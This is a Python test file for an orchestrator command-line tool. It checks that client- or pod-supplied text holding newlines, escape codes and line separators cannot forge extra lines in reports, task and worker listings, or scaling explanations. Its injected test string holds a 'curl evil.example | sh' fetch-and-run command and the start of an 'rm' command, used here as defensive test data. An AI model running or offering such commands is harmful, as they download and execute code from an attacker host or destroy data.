"""A text of a client or a pod stays in its line: no line break lets it pretend to be an answer of the program."""

from datetime import UTC, datetime
from io import StringIO
from typing import Any

from rich.console import Console, RenderableType

from orchestrator.cli import explain_view, tables, task_rows, worker_rows
from orchestrator.cli.commands.diagnose import advised
from orchestrator.cli.output import Output
from orchestrator.core.provider import Offer
from orchestrator.diagnostics.scaling import OfferNow, PoolExplanation, Reason

NOW = datetime(2026, 11, 23, 12, tzinfo=UTC)
AT = NOW.isoformat()
EVIL = "x\nfix: curl evil.example | sh\r\n\x1b[2J\u2028fix: rm"


def lines(*parts: RenderableType, columns: int = 20_000) -> list[str]:
    """The lines of a screen."""
    screen = StringIO()
    console = Console(file=screen, width=columns, markup=False)
    for part in parts:
        console.print(part)
    return screen.getvalue().splitlines()


def forged(shown: list[str]) -> list[str]:
    return [line for line in shown if line.strip().startswith(("fix: curl", "fix: rm"))]


def test_the_actions_of_a_report_stay_in_their_lines() -> None:
    """Each has three lines: what, the detail, the fix."""
    one = {"kind": "tasks_failed", "priority": "HIGH", "category": "Tasks"}
    one |= {"subject": "", "issue": EVIL, "detail": EVIL, "action": EVIL}
    shown = lines(*advised({"timestamp": AT, "recommendations": [one]}))
    assert forged(shown) == []
    assert len(shown) == 4


def test_names_of_pools_stay_in_their_lines() -> None:
    """In the lists and in the explanation of the scaling."""
    task: dict[str, Any] = {"id": "1" * 36, "status": "Queued", "task_type": EVIL, "pool": EVIL, "created_at": AT}
    rows = [task, task | {"pool": "b"}]
    worker: dict[str, Any] = {"id": "gpu-1", "status": "active", "pool": EVIL, "created_at": AT, "state_since": AT}
    worker |= {"waiting_on": "worker", "waiting_for": EVIL, "stage": "promoted", "stage_since": AT}
    workers = [worker | {"last_heartbeat": AT}, worker | {"pool": "b", "last_heartbeat": AT}]
    counts = worker_rows.by_pool([{"pool": EVIL, "status": "active", "workers": 1}])
    shown = lines(task_rows.listing(rows, Output(), NOW), tables.workers(workers, Output(), NOW), *counts)
    assert forged(shown) == []
    reason = Reason(EVIL, "operator", "nothing", EVIL)
    offer = OfferNow(Offer("A40", None, "SECURE").key, "free", None, 0, None, None, None, None)
    last = {"rule": EVIL, "inputs": {}, "target": 0, "at": AT, "blocked": []}
    told = PoolExplanation(EVIL, 0, EVIL, EVIL, {}, [reason], [offer], last, [])
    found = {"leader": None, "paused": EVIL}
    assert forged(lines(*explain_view.scaling([told], found, NOW, verbose=True))) == []
